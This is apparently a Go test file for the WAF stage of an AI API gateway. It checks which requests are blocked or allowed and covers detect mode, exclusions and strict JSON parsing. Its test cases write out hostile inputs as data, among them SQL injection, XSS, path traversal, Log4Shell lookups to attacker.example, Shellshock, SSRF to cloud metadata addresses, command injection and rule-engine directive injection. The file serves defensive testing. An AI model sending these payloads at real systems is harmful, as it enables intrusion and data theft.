// SPDX-License-Identifier: Apache-2.0

package waf

import (
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/prometheus/client_golang/prometheus"
	dto "github.com/prometheus/client_model/go"

	"github.com/bulwarkai/bulwark/internal/config"
	"github.com/bulwarkai/bulwark/internal/llm"
	"github.com/bulwarkai/bulwark/internal/pipeline"
)

const chatPath = "/v1/chat/completions"

func mustStage(t testing.TB, cfg config.WAF, reg prometheus.Registerer) *Stage {
	t.Helper()
	s, err := New(&cfg, nil, reg)
	if err != nil {
		t.Fatalf("New(%+v) = %v", cfg, err)
	}
	t.Cleanup(func() { _ = s.Close() })
	return s
}

// attackCases must be blocked in AI-aware block mode at PL1.
var attackCases = []struct {
	name   string
	method string
	path   string
	body   string
	header map[string]string
	status int
	rule   string
	// crsRule, when set, must be among the matched rule ids.
	crsRule int
}{
	{name: "sqli in query", method: "POST", path: chatPath + "?id=1%27%20OR%20%271%27%3D%271", body: chatBody("hi", ""), status: 403, rule: RuleCRS, crsRule: 942100},
	{name: "xss in query", method: "GET", path: "/v1/models?q=%3Cscript%3Ealert(1)%3C/script%3E", status: 403, rule: RuleCRS, crsRule: 941100},
	{name: "traversal in path", method: "GET", path: "/files/../../../../etc/passwd", status: 403, rule: RuleCRS, crsRule: 930110},
	{name: "encoded traversal in path", method: "GET", path: "/files/..%2f..%2f..%2fetc%2fpasswd", status: 403, rule: RuleCRS},
	{name: "log4shell in user agent", method: "POST", path: chatPath, body: chatBody("hi", ""), header: map[string]string{"User-Agent": "${jndi:ldap://attacker.example/a}"}, status: 403, rule: RuleCRS, crsRule: 944150},
	{name: "shellshock in header", method: "POST", path: chatPath, body: chatBody("hi", ""), header: map[string]string{"Referer": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}, status: 403, rule: RuleCRS},
	{name: "sqli in cookie", method: "POST", path: chatPath, body: chatBody("hi", ""), header: map[string]string{"Cookie": "session=1' UNION SELECT password FROM users--"}, status: 403, rule: RuleCRS},
	{name: "xss in user field", method: "POST", path: chatPath, body: chatBody("hi", `"user":"<script>alert(document.cookie)</script>"`), status: 403, rule: RuleCRS, crsRule: 941100},
	{name: "sqli in metadata", method: "POST", path: chatPath, body: chatBody("hi", `"metadata":{"tag":"1' UNION SELECT username, password FROM users--"}`), status: 403, rule: RuleCRS},
	{name: "rce in model name", method: "POST", path: chatPath, body: strings.Replace(chatBody("hi", ""), "meta-llama/Llama-3.1-8B-Instruct", "x; cat /etc/passwd", 1), status: 403, rule: RuleCRS},
	{name: "sqli in json key", method: "POST", path: chatPath, body: chatBody("hi", `"1' OR '1'='1":1`), status: 403, rule: RuleCRS},
	{name: "log4shell in tool name", method: "POST", path: chatPath, body: chatBody("hi", `"tools":[{"type":"function","function":{"name":"${jndi:ldap://x.example/a}","description":"d","parameters":{"type":"object"}}}]`), status: 403, rule: RuleCRS},
	{name: "ssrf metadata ip", method: "POST", path: chatPath, body: imageBody("http://169.254.169.254/latest/meta-data/"), status: 403, rule: RuleSSRF},
	{name: "ssrf decimal loopback", method: "POST", path: chatPath, body: imageBody("http://2130706433/admin"), status: 403, rule: RuleSSRF},
	{name: "ssrf hex loopback", method: "POST", path: chatPath, body: imageBody("http://0x7f.0x0.0x0.0x1/"), status: 403, rule: RuleSSRF},
	{name: "ssrf ipv6 mapped", method: "POST", path: chatPath, body: imageBody("http://[::ffff:169.254.169.254]/"), status: 403, rule: RuleSSRF},
	{name: "ssrf gcp metadata name", method: "POST", path: chatPath, body: imageBody("http://metadata.google.internal/computeMetadata/v1/"), status: 403, rule: RuleSSRF},
	{name: "ssrf private range", method: "POST", path: chatPath, body: imageBody("https://10.0.0.7/img.png"), status: 403, rule: RuleSSRF},
	{name: "ssrf file scheme", method: "POST", path: chatPath, body: imageBody("file:///etc/passwd"), status: 403, rule: RuleSSRF},
	{name: "too many messages", method: "POST", path: chatPath, body: `{"model":"m","messages":[` + strings.Repeat(`{"role":"user","content":"a"},`, 2048) + `{"role":"user","content":"a"}]}`, status: 400, rule: RuleLimits},
	{name: "too deep", method: "POST", path: chatPath, body: `{"model":"m","messages":[{"role":"user","content":"a"}],"metadata":` + strings.Repeat(`{"a":`, 70) + `1` + strings.Repeat(`}`, 70) + `}`, status: 400, rule: RuleLimits},
}

func imageBody(u string) string {
	return `{"model":"m","messages":[{"role":"user","content":[{"type":"text","text":"What is in this picture?"},{"type":"image_url","image_url":{"url":"` + u + `"}}]}]}`
}

// benignPrompts quote SQL, shell, HTML and code, as honest users do. They
// must pass in AI-aware mode; several would not pass CRS.
var benignPrompts = []struct {
	name, prompt string
	// crsBlocks says the prompt is blocked when CRS sees prompt text
	// (inspectPrompts: true), which is the false positive AI-aware
	// inspection avoids.
	crsBlocks bool
}{
	{"sql or 1=1", "Why does `SELECT * FROM orders o JOIN users u ON o.uid = u.id WHERE u.name = 'x' OR 1=1` return duplicates?", true},
	{"sql union", "Explain the difference between UNION and UNION ALL in: SELECT id FROM a UNION SELECT id FROM b; -- which is faster?", true},
	{"sql drop table", "Is it safe to run DROP TABLE IF EXISTS users; in a migration? What does the ' character do in SQL injection like ' OR '1'='1?", false},
	{"shell pipeline", "What does this do: cat /etc/passwd | grep root && curl -s http://example.com/install.sh | bash", true},
	{"shell rm", "My script runs `rm -rf /tmp/build; wget https://example.com/a.tar.gz; tar xzf a.tar.gz`. Why does it fail?", true},
	{"html script", "How do I escape this in React: <script>alert(document.cookie)</script> and <img src=x onerror=alert(1)>?", true},
	{"python code", "def f(x):\n    return eval(input('> '))\n# why is eval dangerous? how about os.system('ls -la')?", true},
	{"php code", "<?php echo $_GET['name']; system($_POST['cmd']); ?> — what are the vulnerabilities here?", true},
	{"path traversal question", "Why is ../../etc/passwd dangerous in a file download endpoint?", true},
	{"log4shell question", "What was the ${jndi:ldap://example.com/a} Log4Shell payload and how did it work?", true},
	{"plain question", "What is the capital of France?", false},
}

func TestAttacksBlocked(t *testing.T) {
	reg := prometheus.NewRegistry()
	g := newGateway(t, mustStage(t, config.WAF{}, reg))
	for _, tc := range attackCases {
		t.Run(tc.name, func(t *testing.T) {
			res := g.do(t, newRequest(t, tc.method, g.URL+tc.path, tc.body, tc.header))
			if res.Status != tc.status {
				t.Fatalf("%s %s = %d, want %d (body %s, audit %+v)", tc.method, tc.path, res.Status, tc.status, res.Body, res.Audit)
			}
			e := decodeError(t, res.Body)
			for _, leak := range []string{"942", "941", "930", "944", "932", "crs", "CRS", "anomaly", "rule"} {
				if strings.Contains(e.Error.Message, leak) {
					t.Errorf("client message %q leaks %q", e.Error.Message, leak)
				}
			}
			if res.Decision == nil || res.Decision.Stage != StageName || res.Decision.Rule != tc.rule {
				t.Fatalf("decision = %+v, want stage %s rule %s", res.Decision, StageName, tc.rule)
			}
			if res.Audit == nil || res.Audit.Action != "block" {
				t.Fatalf("audit = %+v, want action block", res.Audit)
			}
			if tc.rule == RuleCRS {
				if res.Audit.Score < 5 {
					t.Errorf("audit score = %d, want >= 5", res.Audit.Score)
				}
				if tc.crsRule != 0 && !slices.Contains(res.Audit.Rules, tc.crsRule) {
					t.Errorf("audit rules = %v, want %d among them", res.Audit.Rules, tc.crsRule)
				}
				if !slices.Contains(res.Audit.Rules, 949110) {
					t.Errorf("audit rules = %v, want the blocking evaluation 949110", res.Audit.Rules)
				}
			}
		})
	}
	t.Run("metrics count matches per rule and mode", func(t *testing.T) {
		if n := counterValue(g.stage.metrics.matches.WithLabelValues("r", "942100", "block")); n < 1 {
			t.Errorf("bulwark_waf_rule_matches_total{rule=942100,mode=block} = %v, want >= 1", n)
		}
		if n := counterValue(g.stage.metrics.matches.WithLabelValues("r", "bulwark:ssrf", "block")); n < 1 {
			t.Errorf("bulwark_waf_rule_matches_total{rule=bulwark:ssrf} = %v, want >= 1", n)
		}
		if n := counterValue(g.stage.metrics.requests.WithLabelValues("r", "block", "block")); n < float64(len(attackCases)) {
			t.Errorf("bulwark_waf_requests_total{action=block} = %v, want >= %d", n, len(attackCases))
		}
	})
	t.Run("decision line names the stage and rule", func(t *testing.T) {
		logs := g.logs.String()
		if !strings.Contains(logs, `"msg":"bulwark.decision"`) || !strings.Contains(logs, `"stage":"waf","rule":"crs"`) {
			t.Errorf("decision log lacks the waf decision; got:\n%s", logs)
		}
	})
}

func TestBenignPrompts(t *testing.T) {
	aware := newGateway(t, mustStage(t, config.WAF{}, nil))
	full := newGateway(t, mustStage(t, config.WAF{InspectPrompts: true}, nil))
	for _, tc := range benignPrompts {
		t.Run(tc.name, func(t *testing.T) {
			res := aware.do(t, newRequest(t, "POST", aware.URL+chatPath, chatBody(tc.prompt, ""), nil))
			if res.Status != http.StatusOK {
				t.Fatalf("AI-aware: prompt %q = %d, want 200 (audit %+v)", tc.prompt, res.Status, res.Audit)
			}
			if res.Audit == nil || res.Audit.Action != "allow" || res.Audit.Inspection != InspectAIAware {
				t.Errorf("AI-aware audit = %+v, want allow/ai-aware", res.Audit)
			}
			res = full.do(t, newRequest(t, "POST", full.URL+chatPath, chatBody(tc.prompt, ""), nil))
			if got := res.Status == http.StatusForbidden; got != tc.crsBlocks {
				t.Errorf("inspectPrompts: prompt %q status %d (rules %v), want blocked=%v", tc.prompt, res.Status, res.Audit.Rules, tc.crsBlocks)
			}
		})
	}
	t.Run("benign image url", func(t *testing.T) {
		res := aware.do(t, newRequest(t, "POST", aware.URL+chatPath, imageBody("https://upload.wikimedia.org/wikipedia/commons/a/a7/Camponotus_flavomarginatus_ant.jpg"), nil))
		if res.Status != http.StatusOK {
			t.Errorf("image url = %d, want 200 (%s)", res.Status, res.Body)
		}
	})
	t.Run("tool call arguments and schemas", func(t *testing.T) {
		body := `{"model":"m","messages":[{"role":"user","content":"list users"},{"role":"assistant","content":null,"tool_calls":[{"id":"c1","type":"function","function":{"name":"run_sql","arguments":"{\"query\":\"SELECT * FROM users WHERE name = 'x' OR 1=1; DROP TABLE t;--\"}"}}]},{"role":"tool","tool_call_id":"c1","content":"<script>alert(1)</script> rows: 3"}],"tools":[{"type":"function","function":{"name":"run_sql","description":"Runs SQL like SELECT * FROM t WHERE a = 1 OR 1=1","parameters":{"type":"object","properties":{"query":{"type":"string","description":"e.g. ' UNION SELECT password FROM users --"}}}}}]}`
		res := aware.do(t, newRequest(t, "POST", aware.URL+chatPath, body, nil))
		if res.Status != http.StatusOK {
			t.Errorf("tool call request = %d, want 200 (audit %+v)", res.Status, res.Audit)
		}
	})
}

func TestDetectMode(t *testing.T) {
	g := newGateway(t, mustStage(t, config.WAF{Mode: "detect"}, nil))
	for _, tc := range []struct {
		name, path, body string
		header           map[string]string
		rule             string
		check            string
	}{
		{name: "crs", path: chatPath + "?id=1%27%20OR%20%271%27%3D%271", body: chatBody("hi", ""), rule: RuleCRS},
		{name: "ssrf", path: chatPath, body: imageBody("http://169.254.169.254/"), rule: RuleSSRF, check: "ssrf:private_address"},
		{name: "limits", path: chatPath, body: `{"model":"m","messages":[{"role":"user","content":"a"}],"metadata":` + strings.Repeat(`{"a":`, 70) + `1` + strings.Repeat(`}`, 70) + `}`, rule: RuleLimits, check: "max_depth"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := g.do(t, newRequest(t, "POST", g.URL+tc.path, tc.body, tc.header))
			if res.Status != http.StatusOK {
				t.Fatalf("detect mode: %s = %d, want 200", tc.name, res.Status)
			}
			if res.Decision != nil {
				t.Errorf("detect mode decision = %+v, want none", res.Decision)
			}
			var rules []string
			for _, d := range res.Detected {
				if d.Stage == StageName {
					rules = append(rules, d.Rule)
				}
			}
			if !slices.Contains(rules, tc.rule) {
				t.Errorf("detected rules = %v, want %s", rules, tc.rule)
			}
			if res.Audit == nil || res.Audit.Action != "detect" || res.Audit.Mode != "detect" {
				t.Fatalf("audit = %+v, want mode and action detect", res.Audit)
			}
			if tc.check != "" && !slices.Contains(res.Audit.Checks, tc.check) {
				t.Errorf("audit checks = %v, want %s", res.Audit.Checks, tc.check)
			}
			if tc.rule == RuleCRS && (res.Audit.Score < 5 || !slices.Contains(res.Audit.Rules, 942100)) {
				t.Errorf("audit = %+v, want score >= 5 and rule 942100", res.Audit)
			}
		})
	}
}

func TestOffMode(t *testing.T) {
	g := newGateway(t, mustStage(t, config.WAF{Mode: "off"}, nil))
	res := g.do(t, newRequest(t, "GET", g.URL+"/v1/models?q=%3Cscript%3Ealert(1)%3C/script%3E", "", nil))
	if res.Status != http.StatusOK || res.Audit != nil {
		t.Errorf("off mode: status %d audit %+v, want 200 and no audit", res.Status, res.Audit)
	}
}

func TestPassthroughBodyByContentType(t *testing.T) {
	g := newGateway(t, mustStage(t, config.WAF{}, nil))
	for _, tc := range []struct {
		name, ctype, body string
		status            int
	}{
		{"form sqli", "application/x-www-form-urlencoded", "q=1' UNION SELECT password FROM users--", 403},
		{"json sqli", "application/json", `{"q":"1' UNION SELECT password FROM users--"}`, 403},
		{"json benign", "application/json", `{"q":"hello"}`, 200},
		{"broken json", "application/json", `{"q":`, 400},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := g.do(t, newRequest(t, "POST", g.URL+"/v1/rerank", tc.body, map[string]string{"Content-Type": tc.ctype}))
			if res.Status != tc.status {
				t.Fatalf("passthrough %s = %d, want %d (audit %+v)", tc.name, res.Status, tc.status, res.Audit)
			}
			if res.Audit == nil || res.Audit.Inspection != InspectRaw {
				t.Errorf("audit = %+v, want inspection raw", res.Audit)
			}
		})
	}
}

func TestResponseInspection(t *testing.T) {
	g := newGateway(t, mustStage(t, config.WAF{InspectResponses: true}, nil))
	leak := "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"
	for _, tc := range []struct {
		name, path string
		status     int
	}{
		{"clean response", "/base64/" + b64("hello"), 200},
		{"sql error leak", "/base64/" + b64(leak), 502},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := g.do(t, newRequest(t, "GET", g.URL+tc.path, "", nil))
			if res.Status != tc.status {
				t.Fatalf("GET %s = %d, want %d (%s)", tc.path, res.Status, tc.status, res.Body)
			}
			if tc.status != 200 {
				decodeError(t, res.Body)
				if res.Audit == nil || res.Audit.ResponseScore < 4 {
					t.Errorf("audit = %+v, want a response score", res.Audit)
				}
			}
		})
	}
}

func TestNewValidates(t *testing.T) {
	for _, tc := range []struct {
		name string
		cfg  config.WAF
		want string
	}{
		{"bad mode", config.WAF{Mode: "loud"}, "waf.mode"},
		{"bad paranoia", config.WAF{ParanoiaLevel: 5}, "waf.paranoiaLevel"},
		{"bad exclusion id", config.WAF{Exclusions: []config.WAFExclusion{{IDs: []config.WAFRuleID{"abc"}}}}, "waf.exclusions[0].ids[0]"},
		{"target injection", config.WAF{Exclusions: []config.WAFExclusion{{IDs: []config.WAFRuleID{"942100"}, Targets: []string{"ARGS:x\"\nSecRuleEngine Off"}}}}, "waf.exclusions[0].targets[0]"},
		{"empty exclusion", config.WAF{Exclusions: []config.WAFExclusion{{}}}, "waf.exclusions[0]"},
		{"missing rules file", config.WAF{RulesFile: "/nonexistent/rules.conf"}, "rulesFile"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := New(&tc.cfg, nil, nil)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("New(%s) = %v, want an error naming %s", tc.name, err, tc.want)
			}
		})
	}
}

func TestExclusionsAndRulesFile(t *testing.T) {
	rules := t.TempDir() + "/custom.conf"
	writeFile(t, rules, `SecRule REQUEST_HEADERS:X-Canary "@streq deny-me" "id:10001,phase:1,deny,status:403,log,msg:'canary'"`+"\n")
	g := newGateway(t, mustStage(t, config.WAF{
		RulesFile: rules,
		Exclusions: []config.WAFExclusion{
			{IDs: []config.WAFRuleID{"941000-941999"}, Targets: []string{"ARGS:json.user"}, Reason: "user ids are free text"},
			{Tags: []string{"attack-sqli"}, Targets: []string{"ARGS:json.metadata.tag"}},
		},
	}, nil))
	for _, tc := range []struct {
		name   string
		body   string
		header map[string]string
		status int
	}{
		{"excluded xss target", chatBody("hi", `"user":"<script>alert(1)</script>"`), nil, 200},
		{"excluded sqli target", chatBody("hi", `"metadata":{"tag":"1' UNION SELECT password FROM users--"}`), nil, 200},
		{"other target still inspected", chatBody("hi", `"metadata":{"other":"1' UNION SELECT password FROM users--"}`), nil, 403},
		{"custom rule", chatBody("hi", ""), map[string]string{"X-Canary": "deny-me"}, 403},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := g.do(t, newRequest(t, "POST", g.URL+chatPath, tc.body, tc.header))
			if res.Status != tc.status {
				t.Errorf("status = %d, want %d (audit %+v)", res.Status, tc.status, res.Audit)
			}
		})
	}
}

func TestEngineCache(t *testing.T) {
	a := mustStage(t, config.WAF{ParanoiaLevel: 2}, nil)
	b := mustStage(t, config.WAF{ParanoiaLevel: 2}, nil)
	c := mustStage(t, config.WAF{ParanoiaLevel: 3}, nil)
	if a.eng != b.eng {
		t.Errorf("two stages with one config compiled twice")
	}
	if a.eng == c.eng {
		t.Errorf("stages with different configs share an engine")
	}
	eng := a.eng
	_ = a.Close()
	_ = a.Close() // idempotent
	d := mustStage(t, config.WAF{ParanoiaLevel: 2}, nil)
	if d.eng != eng {
		t.Errorf("engine dropped while another stage still held it")
	}
	_ = b.Close()
	_ = d.Close()
	engines.mu.Lock()
	_, cached := engines.m[eng.key]
	engines.mu.Unlock()
	if cached {
		t.Errorf("engine still cached after its last stage closed")
	}
}

func TestDirectivesExclusions(t *testing.T) {
	cfg := config.WAF{Exclusions: []config.WAFExclusion{
		{IDs: []config.WAFRuleID{"942100", "942200-942299"}},
		{Tags: []string{"attack-xss"}},
		{IDs: []config.WAFRuleID{"932100"}, Tags: []string{"attack-rce"}, Targets: []string{"ARGS:json.a", "REQUEST_HEADERS:Referer"}},
	}}
	cfg.ApplyDefaults()
	d, err := directives(&cfg, buildOptions{})
	if err != nil {
		t.Fatal(err)
	}
	tail := d[strings.Index(d, "Include @owasp_crs/*.conf"):]
	want := []string{
		"Include @owasp_crs/*.conf",
		"SecRuleRemoveById 942100",
		"SecRuleRemoveById 942200-942299",
		`SecRuleRemoveByTag "attack-xss"`,
		`SecRuleUpdateTargetById 932100 "!ARGS:json.a|!REQUEST_HEADERS:Referer"`,
		`SecRuleUpdateTargetByTag "attack-rce" "!ARGS:json.a|!REQUEST_HEADERS:Referer"`,
	}
	if diff := cmp.Diff(want, strings.Split(strings.TrimSpace(tail), "\n")); diff != "" {
		t.Errorf("exclusion directives (-want +got):\n%s", diff)
	}
}

func counterValue(c prometheus.Counter) float64 {
	var m dto.Metric
	if err := c.Write(&m); err != nil {
		return -1
	}
	return m.GetCounter().GetValue()
}

// TestStrictInStage drives OnRequest directly: the core handler refuses
// non-strict JSON before any stage runs, so over HTTP these never reach
// the WAF, but the stage enforces them itself for callers that do not.
func TestStrictInStage(t *testing.T) {
	block := mustStage(t, config.WAF{}, nil)
	detect := mustStage(t, config.WAF{Mode: "detect"}, nil)
	for _, tc := range []struct {
		name, body string
		rule       string
		kind       llm.StrictKind
	}{
		{"duplicate keys", `{"model":"m","messages":[{"role":"user","content":"hi"}],"model":"other"}`, RuleStrict, llm.StrictDuplicateKey},
		{"case variant keys", `{"model":"m","messages":[{"role":"user","content":"evil"}],"Messages":[{"role":"user","content":"fine"}]}`, RuleStrict, llm.StrictDuplicateKey},
		{"invalid utf8", "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"\xff\xfe\"}]}", RuleStrict, llm.StrictUTF8},
		{"lone surrogate", `{"model":"m","messages":[{"role":"user","content":"\ud800"}]}`, RuleStrict, llm.StrictUTF8},
		{"too many parts", `{"model":"m","messages":[{"role":"user","content":[` + strings.Repeat(`{"type":"text","text":"a"},`, 4096) + `{"type":"text","text":"a"}]}]}`, RuleLimits, llm.StrictParts},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rc := &pipeline.RequestContext{Request: httptest.NewRequest("POST", chatPath, nil), Body: []byte(tc.body), API: llm.APIChat}
			d, err := block.OnRequest(t.Context(), rc)
			if err != nil {
				t.Fatal(err)
			}
			if d == nil || d.Status != http.StatusBadRequest || d.Rule != tc.rule || d.Code != "invalid_body" {
				t.Fatalf("block mode decision = %+v, want 400 invalid_body rule %s", d, tc.rule)
			}
			if a := rc.AuditFields()[0].Value.(*Audit); !slices.Contains(a.Checks, string(tc.kind)) {
				t.Errorf("audit checks = %v, want %s", a.Checks, tc.kind)
			}
			rc = &pipeline.RequestContext{Request: httptest.NewRequest("POST", chatPath, nil), Body: []byte(tc.body), API: llm.APIChat}
			if d, err := detect.OnRequest(t.Context(), rc); d != nil || err != nil {
				t.Fatalf("detect mode = %+v, %v; want the request to pass", d, err)
			}
			if len(rc.Detected) == 0 || rc.Detected[0].Rule != tc.rule {
				t.Errorf("detect mode detections = %+v, want rule %s", rc.Detected, tc.rule)
			}
		})
	}
}
